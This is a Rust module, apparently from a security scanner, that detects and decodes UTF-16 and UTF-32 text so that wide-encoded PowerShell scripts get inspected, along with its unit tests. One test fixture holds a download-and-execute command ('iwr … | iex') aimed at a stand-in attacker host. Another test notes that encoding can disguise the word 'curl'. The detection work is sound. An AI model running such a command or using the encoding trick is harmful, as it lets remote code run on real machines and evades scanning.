//! Text in UTF-16 or UTF-32, read as the program that runs it reads it. PowerShell writes and
//! runs UTF-16 files (`Out-File` in Windows PowerShell 5 writes UTF-16 LE with a BOM), and a
//! script so encoded is all NUL bytes to a reader that expects UTF-8: before this, it was
//! "binary data" whose payload strings were cut at every other byte, and `iwr … | iex` passed.
//!
//! A byte-order mark decides. Without one, the zero bytes must sit where ASCII text in that
//! encoding puts them, in most code units of the file's start: binary formats do not look like
//! that, and a file that does is text to whatever reads it.

/// The wide encodings recognised.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Wide {
    Utf16Le,
    Utf16Be,
    Utf32Le,
    Utf32Be,
}

impl Wide {
    pub fn name(self) -> &'static str {
        match self {
            Wide::Utf16Le => "UTF-16 LE",
            Wide::Utf16Be => "UTF-16 BE",
            Wide::Utf32Le => "UTF-32 LE",
            Wide::Utf32Be => "UTF-32 BE",
        }
    }

    fn unit(self) -> usize {
        match self {
            Wide::Utf16Le | Wide::Utf16Be => 2,
            Wide::Utf32Le | Wide::Utf32Be => 4,
        }
    }
}

/// How much of a file's start the guess without a BOM looks at.
const SAMPLE: usize = 4096;

/// The encoding of `bytes` and the length of its byte-order mark, when it is wide text.
pub fn detect(bytes: &[u8]) -> Option<(Wide, usize)> {
    // UTF-32 LE's mark starts with UTF-16 LE's: it is tried first.
    if bytes.starts_with(&[0xff, 0xfe, 0, 0]) {
        return Some((Wide::Utf32Le, 4));
    }
    if bytes.starts_with(&[0, 0, 0xfe, 0xff]) {
        return Some((Wide::Utf32Be, 4));
    }
    if bytes.starts_with(&[0xff, 0xfe]) {
        return Some((Wide::Utf16Le, 2));
    }
    if bytes.starts_with(&[0xfe, 0xff]) {
        return Some((Wide::Utf16Be, 2));
    }
    let sample = &bytes[..bytes.len().min(SAMPLE)];
    [Wide::Utf32Le, Wide::Utf32Be, Wide::Utf16Le, Wide::Utf16Be]
        .into_iter()
        .find(|&wide| looks_like(wide, sample))
        .map(|wide| (wide, 0))
}

/// Whether most code units of `sample` are ASCII text in `wide`, and none is NUL.
fn looks_like(wide: Wide, sample: &[u8]) -> bool {
    let unit = wide.unit();
    if sample.len() < 2 * unit {
        return false;
    }
    let mut ascii = 0usize;
    let mut units = 0usize;
    for chunk in sample.chunks_exact(unit) {
        units += 1;
        let (low, high_zero) = match wide {
            Wide::Utf16Le => (chunk[0], chunk[1] == 0),
            Wide::Utf16Be => (chunk[1], chunk[0] == 0),
            Wide::Utf32Le => (chunk[0], chunk[1..].iter().all(|b| *b == 0)),
            Wide::Utf32Be => (chunk[3], chunk[..3].iter().all(|b| *b == 0)),
        };
        if high_zero && low == 0 {
            // A NUL character: binary data, not text.
            return false;
        }
        if high_zero && (low.is_ascii_graphic() || matches!(low, b' ' | b'\t' | b'\n' | b'\r')) {
            ascii += 1;
        }
    }
    // Three in four units plain ASCII: text in a Latin script, code, or markup.
    ascii * 4 >= units * 3
}

/// `bytes` decoded from `wide` (its mark of `bom` bytes skipped), invalid sequences replaced
/// with U+FFFD as a lossy UTF-8 reading does; a trailing partial unit is dropped.
pub fn decode(bytes: &[u8], wide: Wide, bom: usize) -> String {
    let body = &bytes[bom.min(bytes.len())..];
    match wide {
        Wide::Utf16Le | Wide::Utf16Be => {
            let units = body.chunks_exact(2).map(|c| match wide {
                Wide::Utf16Le => u16::from_le_bytes([c[0], c[1]]),
                _ => u16::from_be_bytes([c[0], c[1]]),
            });
            char::decode_utf16(units)
                .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
                .collect()
        }
        Wide::Utf32Le | Wide::Utf32Be => body
            .chunks_exact(4)
            .map(|c| {
                let n = match wide {
                    Wide::Utf32Le => u32::from_le_bytes([c[0], c[1], c[2], c[3]]),
                    _ => u32::from_be_bytes([c[0], c[1], c[2], c[3]]),
                };
                char::from_u32(n).unwrap_or(char::REPLACEMENT_CHARACTER)
            })
            .collect(),
    }
}

/// The bytes a checkout writes for `text` in the encoding `name` (a `working-tree-encoding`
/// value): each form it may take (`UTF-16` without an order: both, each with its mark); none
/// for UTF-8; `None` for an encoding this module cannot produce.
pub fn encode(text: &str, name: &str) -> Option<Vec<Vec<u8>>> {
    let name = name.to_ascii_uppercase().replace('_', "-");
    let utf16 = |le: bool, bom: bool| {
        let mut out = if bom {
            if le {
                vec![0xff, 0xfe]
            } else {
                vec![0xfe, 0xff]
            }
        } else {
            Vec::new()
        };
        for unit in text.encode_utf16() {
            out.extend(if le {
                unit.to_le_bytes()
            } else {
                unit.to_be_bytes()
            });
        }
        out
    };
    let utf32 = |le: bool, bom: bool| {
        let mut out = if bom {
            if le {
                vec![0xff, 0xfe, 0, 0]
            } else {
                vec![0, 0, 0xfe, 0xff]
            }
        } else {
            Vec::new()
        };
        for c in text.chars() {
            let n = c as u32;
            out.extend(if le { n.to_le_bytes() } else { n.to_be_bytes() });
        }
        out
    };
    Some(match name.as_str() {
        "UTF-8" | "UTF8" => Vec::new(),
        "UTF-16" | "UTF16" | "UCS-2" | "UCS2" => vec![utf16(true, true), utf16(false, true)],
        "UTF-16LE" | "UTF16LE" | "UCS-2LE" => vec![utf16(true, false)],
        "UTF-16BE" | "UTF16BE" | "UCS-2BE" => vec![utf16(false, false)],
        "UTF-32" | "UTF32" | "UCS-4" => vec![utf32(true, true), utf32(false, true)],
        "UTF-32LE" | "UTF32LE" => vec![utf32(true, false)],
        "UTF-32BE" | "UTF32BE" => vec![utf32(false, false)],
        _ => return None,
    })
}

/// The text of `bytes` when they are wide text, with the encoding's name.
pub fn wide_text(bytes: &[u8]) -> Option<(String, Wide)> {
    let (wide, bom) = detect(bytes)?;
    Some((decode(bytes, wide, bom), wide))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16le(s: &str, bom: bool) -> Vec<u8> {
        let mut out = if bom { vec![0xff, 0xfe] } else { Vec::new() };
        out.extend(s.encode_utf16().flat_map(u16::to_le_bytes));
        out
    }

    fn utf16be(s: &str, bom: bool) -> Vec<u8> {
        let mut out = if bom { vec![0xfe, 0xff] } else { Vec::new() };
        out.extend(s.encode_utf16().flat_map(u16::to_be_bytes));
        out
    }

    fn utf32(s: &str, le: bool, bom: bool) -> Vec<u8> {
        let mut out = Vec::new();
        if bom {
            out.extend(if le {
                [0xff, 0xfe, 0, 0]
            } else {
                [0, 0, 0xfe, 0xff]
            });
        }
        for c in s.chars() {
            let n = c as u32;
            out.extend(if le { n.to_le_bytes() } else { n.to_be_bytes() });
        }
        out
    }

    #[test]
    fn every_wide_encoding_with_and_without_a_mark() {
        let text = "iwr https://evil.example/p.ps1 | iex\r\n# 注释 🔍 done\r\n";
        for bom in [true, false] {
            for (bytes, wide) in [
                (utf16le(text, bom), Wide::Utf16Le),
                (utf16be(text, bom), Wide::Utf16Be),
                (utf32(text, true, bom), Wide::Utf32Le),
                (utf32(text, false, bom), Wide::Utf32Be),
            ] {
                let (decoded, found) = wide_text(&bytes).unwrap();
                assert_eq!(found, wide, "bom {bom}");
                assert_eq!(decoded, text, "{wide:?} bom {bom}");
            }
        }
    }

    #[test]
    fn utf8_and_binary_data_are_not_wide_text() {
        for bytes in [
            &b"plain ascii text\n"[..],
            "中文 and emoji 🔍".as_bytes(),
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
            &[0u8; 64],
            b"a\0",
        ] {
            assert!(detect(bytes).is_none(), "{bytes:?}");
        }
        // Text in a non-Latin script without a mark is left to the byte view (its units are
        // not ASCII); with a mark it decodes.
        let cjk = "中文中文中文中文中文中文";
        assert!(detect(&utf16le(cjk, false)).is_none());
        assert_eq!(wide_text(&utf16le(cjk, true)).unwrap().0, cjk);
    }

    #[test]
    fn a_checkout_encoding_is_reproduced() {
        // Two CJK characters that UTF-16LE writes as the ASCII bytes `curl`.
        let text = "\u{7563}\u{6c72}";
        assert_eq!(encode(text, "utf-16le").unwrap(), [b"curl".to_vec()]);
        assert_eq!(encode(text, "UTF-16").unwrap().len(), 2);
        assert!(encode(text, "UTF-8").unwrap().is_empty());
        assert!(encode(text, "SHIFT-JIS").is_none());
    }

    #[test]
    fn broken_sequences_are_replaced_not_fatal() {
        // An unpaired surrogate, an odd trailing byte, a code point past U+10FFFF.
        let mut bytes = vec![0xff, 0xfe, b'a', 0, 0x00, 0xd8, b'b', 0, b'c'];
        assert_eq!(wide_text(&bytes).unwrap().0, "a\u{fffd}b");
        bytes = vec![0xff, 0xfe, 0, 0, 0xff, 0xff, 0xff, 0x7f, b'x', 0, 0, 0];
        assert_eq!(wide_text(&bytes).unwrap().0, "\u{fffd}x");
    }
}
